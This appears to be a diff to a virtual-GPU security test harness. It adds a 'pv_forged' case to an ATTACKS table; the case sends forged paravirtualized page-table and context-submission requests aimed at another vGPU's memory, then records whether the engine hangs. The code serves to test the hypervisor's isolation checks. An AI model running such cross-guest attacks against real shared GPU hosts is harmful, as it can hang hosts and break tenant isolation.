@@ -294,6 +294,32 @@ async def elsp_unprivileged(drv: VgpuDriver, target: Target) -> dict[str, Any]:
     return await _elsp_raw(drv, e, _desc(e.ctx_id, e.context.gm, privileged=False), "ELSP without privilege")
 
 
+async def pv_forged(drv: VgpuDriver, target: Target) -> dict[str, Any]:
+    """The paravirtualized path (docs/PV.md) with forged contents: a PV PPGTT update naming a root that is not
+    one of its PPGTTs (beyond its RAM), then a PV submission whose descriptor's LRCA is another vGPU's context.
+    The shared page is guest RAM, so GVT checks what it reads there as it checks an ELSP write."""
+    pv = await drv.enable_pv()
+    if drv.pv is None:
+        return {"what": "forged PV requests", "hang": False, "pv": pv.status, "skipped": True}
+    e = drv.engines[ENGINE]
+    await drv.pv.ppgtt_update(drv.machine.ram_bytes + 0x10_0000, 0, PAGE_SIZE)
+    lrca = _foreign(drv, target, "ctx_gm")
+    t0 = time.monotonic()
+    loop = asyncio.get_running_loop()
+    async with e.lock:
+        e.pending, e.user_wait, e.inflight_ctx = loop.create_future(), None, 0x1F2
+        try:
+            e.pv_wait_seq = await drv.pv.submit(ENGINE, _desc(0x1F2, lrca))
+            await drv._hangcheck_wait(e, drv.hang_timeout)
+            hang = False
+        except (DriverError, IoreqFailed):
+            hang = True
+        finally:
+            e.pending, e.pv_wait_seq = None, 0
+    return {"what": "forged PV requests", "hang": hang, "pv": pv.status, "lrca": lrca,
+            "seconds": round(time.monotonic() - t0, 3)}
+
+
 # ----------------------------------------------------------------------------------- WP ioreqs
 async def wp_forged(drv: VgpuDriver, target: Target) -> dict[str, Any]:
     """Write-protect ioreqs the hypervisor would never raise (ACRN raises REQ_WP only for an EPT write
@@ -424,7 +450,8 @@ ATTACKS: dict[str, Callable[[VgpuDriver, Target], Awaitable[dict[str, Any]]]] = 
     "flush_dw_oob": _plain(flush_dw_oob), "blit_oob": _plain(blit_oob), "bb_start_foreign": _plain(bb_start_foreign),
     "ppgtt_foreign_pte": ppgtt_foreign_pte, "ggtt_foreign_frames": ggtt_foreign_frames,
     "ppgtt_batch_privileged": ppgtt_batch_privileged, "elsp_foreign_lrca": elsp_foreign_lrca,
-    "elsp_foreign_ring": elsp_foreign_ring, "elsp_unprivileged": elsp_unprivileged, "wp_forged": wp_forged,
+    "elsp_foreign_ring": elsp_foreign_ring, "elsp_unprivileged": elsp_unprivileged, "pv_forged": pv_forged,
+    "wp_forged": wp_forged,
     "irq_games": irq_games, "self_modifying_batch": self_modifying_batch, "rewrite_after_scan": rewrite_after_scan,
 }
 
